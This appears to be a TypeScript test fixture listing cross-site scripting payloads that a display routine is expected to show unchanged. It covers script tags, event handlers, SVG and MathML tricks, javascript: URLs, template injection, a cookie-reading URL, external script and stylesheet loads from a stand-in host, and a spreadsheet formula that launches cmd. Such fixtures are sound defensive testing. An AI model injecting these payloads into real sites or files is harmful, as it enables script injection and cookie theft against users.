/**
 * Texts that have run as scripts somewhere, by the context they break out of. Each is short enough for a name, and none starts
 * or ends with white space, so all must be shown unchanged.
 */
export const payloads: readonly string[] = [
  // elements
  "<script>alert(1)</script>",
  "<ScRiPt/x>alert(1)</ScRiPt>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" alt="',
  "<img/src=`x`onerror=alert(1)//",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
  "<embed src=javascript:alert(1)>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';*{display:none}</style>",
  "<form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<xss-element tabindex=1 onfocus=alert(1) id=x autofocus>#x",
  // handlers without user interaction
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>",
  "<p style='animation:x' onanimationstart=alert(1)>",
  // SVG and MathML
  "<svg onload=alert(1)>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>click</text></a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  // out of attributes, comments and text elements
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  "--><!--><img src=x onerror=alert(1)>",
  "</title></textarea></style></script><script>alert(1)</script>",
  // addresses
  "javascript:alert(1)",
  "JaVaScRiPt\u003aalert(document.cookie)//",
  "java&Tab;script:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  // templates and Markdown
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a text
  "${alert(1)}#{alert(1)}<%= alert(1) %>",
  '[click](javascript:alert(1)) ![x](x"onerror="alert(1))',
  // out of JSON and scripts
  '"}]};alert(1);//',
  '\\";alert(1);//</script>',
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
  // Unicode: full-width brackets, zero-width characters, a broken tag; names can't contain control characters
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "<img src=x onerror=alert(1)>.txt",
  "<\u200bscript>alert(1)</\u200bscript>\ud83d\udca5",
  // formulas
  '=HYPERLINK("javascript:alert(1)","click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  // entities stay unchanged
  "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;&amp;amp;",
];
